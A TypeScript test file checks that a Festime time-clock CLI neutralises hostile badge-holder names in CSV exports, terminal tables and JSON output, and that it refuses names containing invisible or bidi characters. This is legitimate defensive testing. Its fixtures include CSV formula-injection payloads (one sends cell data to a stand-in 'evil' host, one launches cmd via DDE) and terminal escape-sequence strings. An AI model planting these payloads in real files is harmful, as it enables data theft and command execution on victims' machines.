// Hostile input changes nothing: names from Festime built to be formulas in a spreadsheet or
// commands to a terminal are printed as the text they are, and such names typed by a user are
// refused. The real CLI as a child process, the simulator over loopback, real LibreOffice.
import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { PUNCH_KEYS } from '../../shared/festime';
import { addDays, dayOfWeek, todayIn } from '../../shared/time';
import { createSimulator, type Simulator } from '../../main/core/festime/simulator/server';
import { DEMO_PASSWORD } from '../../main/core/festime/simulator/state';
import { runCli } from '../helpers/cli';
import { csvAsOpened } from '../helpers/libreoffice';

let sim: Simulator;
let dataDir: string;
let day: string;

beforeEach(async () => {
  sim = createSimulator();
  const url = await sim.listen();
  dataDir = mkdtempSync(join(tmpdir(), 'festime-hostile-'));
  base = ['--server', url, '--login', 'demo', '--data-dir', dataDir];
  // The last weekday before today: the simulated site's people punch on it.
  day = addDays(todayIn('Europe/Paris'), -1);
  while ([0, 6].includes(dayOfWeek(day))) day = addDays(day, -1);
});
afterEach(() => sim.close());

let base: string[];
const cli = (args: string[]) => runCli([...base, ...args], { env: { FESTIME_PASSWORD: DEMO_PASSWORD }, timeoutMs: 30_000 });

/** Names a Festime administrator (or anyone who can name a badge holder) could have typed. */
const FORMULAS = ['=HYPERLINK("http://evil/?"&A1,"x")', "+cmd|' /C calc'!A0", '-2+3', '@SUM(1,2)', '=1+1'];

describe('CSV opened in a spreadsheet', () => {
  it('fetch and punches: a name that looks like a formula stays text, shown with a leading quote; ids stay numbers', async () => {
    FORMULAS.forEach((name, i) => sim.addPunch('demo', { uid: `90000${i}`, type: 'A', at: `${day}T08:0${i}:00`, name }));
    const ordinary = sim.punches('demo', day, day).find((p) => !FORMULAS.includes(p.name))!.name;
    const fetched = await cli(['fetch', '--day', day, '--format', 'csv']);
    expect(fetched.code).toBe(0);
    expect((await cli(['sync'])).code).toBe(0);
    const stored = await cli(['punches', '--from', day, '--to', day, '--format', 'csv']);
    expect(stored.code).toBe(0);
    const dir = mkdtempSync(join(tmpdir(), 'festime-hostile-csv-'));
    const files = [join(dir, 'fetch.csv'), join(dir, 'punches.csv')];
    writeFileSync(files[0]!, fetched.stdout);
    writeFileSync(files[1]!, stored.stdout);

    const sheets = csvAsOpened(files);
    for (const [i, sheet] of sheets.entries()) {
      const [head, ...rows] = sheet;
      expect(head!.map((c) => c.text).slice(0, PUNCH_KEYS.length)).toEqual([...PUNCH_KEYS]);
      // No cell anywhere is a formula: every one is what the file says, as text or number.
      expect(
        sheet.flat().filter((c) => c.formula !== null),
        files[i],
      ).toEqual([]);
      const names = rows.map((r) => r[PUNCH_KEYS.indexOf('name')]!.text);
      for (const name of FORMULAS) expect(names, files[i]).toContain(`'${name}`);
      // The ordinary names are untouched, and the ids are the punches' numbers.
      expect(names).toContain(ordinary);
      expect(rows.every((r) => /^\d+$/.test(r[0]!.text))).toBe(true);
    }
  }, 90_000);
});

/** ESC [2J clears a terminal; U+202E shows what follows right to left. */
const HOSTILE = 'PIRATE\u001b[2J Ève\u202eLIAM';
const SHOWN = 'PIRATE\\x1b[2J Ève\\u202eLIAM';
/** What would act on the terminal: control and format characters, the line breaks between lines aside. */
const raw = (text: string) => [...text].filter((ch) => ch !== '\n' && /[\p{Cc}\p{Cf}\u2028\u2029]/u.test(ch));

describe('terminal output', () => {
  it('tables show control and bidi characters escaped, in fetch, punches, holders list and terminals info', async () => {
    sim.addPunch('demo', { uid: '900100', type: 'A', at: `${day}T08:00:00`, name: HOSTILE });
    sim.addPunch('demo', { uid: '900101', type: 'A', at: `${day}T08:01:00`, name: 'C1\u009b31m CSI\u0085NEL' });
    sim.setTerminal('demo', 'Accueil bureaux - Melun', { name: 'Accueil\u001b]0;owned\u0007 bureaux\u202e' });

    const fetched = await cli(['fetch', '--day', day]);
    expect(fetched.code).toBe(0);
    expect(raw(fetched.stdout)).toEqual([]);
    expect(fetched.stdout).toContain(SHOWN);
    expect(fetched.stdout).toContain('C1\\x9b31m CSI\\x85NEL');

    expect((await cli(['sync'])).code).toBe(0);
    const stored = await cli(['punches', '--from', day, '--to', day]);
    expect(raw(stored.stdout)).toEqual([]);
    expect(stored.stdout).toContain(SHOWN);

    const holders = await cli(['holders', 'list']);
    expect(holders.code).toBe(0);
    expect(raw(holders.stdout)).toEqual([]);
    expect(holders.stdout).toMatch(/900100\s+PIRATE\\x1b\[2J\s+Ève\\u202eLIAM/);

    const terminals = await cli(['terminals', 'info']);
    expect(terminals.code).toBe(0);
    expect(raw(terminals.stdout)).toEqual([]);
    expect(terminals.stdout).toContain('Accueil\\x1b]0;owned\\x07 bureaux\\u202e');
    // One line per access point, plus the head: no line break came through either.
    expect(terminals.stdout.trim().split('\n')).toHaveLength(3);
  }, 60_000);

  it('JSON keeps the data exact, the bidi and C1 characters written as \\u escapes', async () => {
    sim.addPunch('demo', { uid: '900100', type: 'A', at: `${day}T08:00:00`, name: `${HOSTILE}\u0085` });
    const r = await cli(['fetch', '--day', day, '--format', 'json']);
    expect(r.code).toBe(0);
    expect(raw(r.stdout)).toEqual([]);
    expect(r.stdout).toContain('"PIRATE\\u001b[2J Ève\\u202eLIAM\\u0085"');
    expect((JSON.parse(r.stdout) as { name: string }[]).map((p) => p.name)).toContain(`${HOSTILE}\u0085`);
  });
});

describe('names typed by a user', () => {
  const refusedWithNothingSent = async () => {
    expect(sim.requests).toHaveLength(0);
    const list = await cli(['holders', 'list', '--format', 'json']);
    expect(JSON.parse(list.stdout)).toEqual([]);
    // Nothing queued either: no "to send" note.
    expect(list.stderr).toBe('');
    expect(sim.account('demo').users.has('858745632')).toBe(false);
  };

  it('U+202E in a name is refused by add, edit and fix, before anything is queued or sent: exit 2, the character named', async () => {
    for (const op of ['add', 'edit', 'fix'] as const) {
      const r = await cli(['holders', op, '--uid', '858745632', '--nom', 'DUPONT\u202e', '--prenom', 'Mario']);
      expect(r.code).toBe(2);
      expect(r.stderr).toContain('--nom : Le champ « Nom » contient un caractère interdit (U+202E).');
      expect(r.stderr).not.toContain('\u202e');
    }
    const prenom = await cli(['--lang', 'en', 'holders', 'add', '--uid', '858745632', '--nom', 'DUPONT', '--prenom', 'Ma\u202erio']);
    expect(prenom.code).toBe(2);
    expect(prenom.stderr).toContain('--prenom : The field “First name” contains a forbidden character (U+202E).');
    await refusedWithNothingSent();
  }, 60_000);

  it.each([
    ['U+200B', 'DU\u200bPONT'],
    ['U+2066', '\u2066DUPONT'],
    ['U+200F', 'DUPONT\u200f'],
    ['U+FEFF', 'DU\ufeffPONT'],
    ['U+00AD', 'DU\u00adPONT'],
    ['U+061C', 'DU\u061cPONT'],
  ])(
    '%s, invisible, is refused the same way',
    async (shown, nom) => {
      const r = await cli(['holders', 'add', '--uid', '858745632', '--nom', nom, '--prenom', 'Mario']);
      expect(r.code).toBe(2);
      expect(r.stderr).toContain(`--nom : Le champ « Nom » contient un caractère interdit (${shown}).`);
      await refusedWithNothingSent();
    },
    30_000,
  );
});
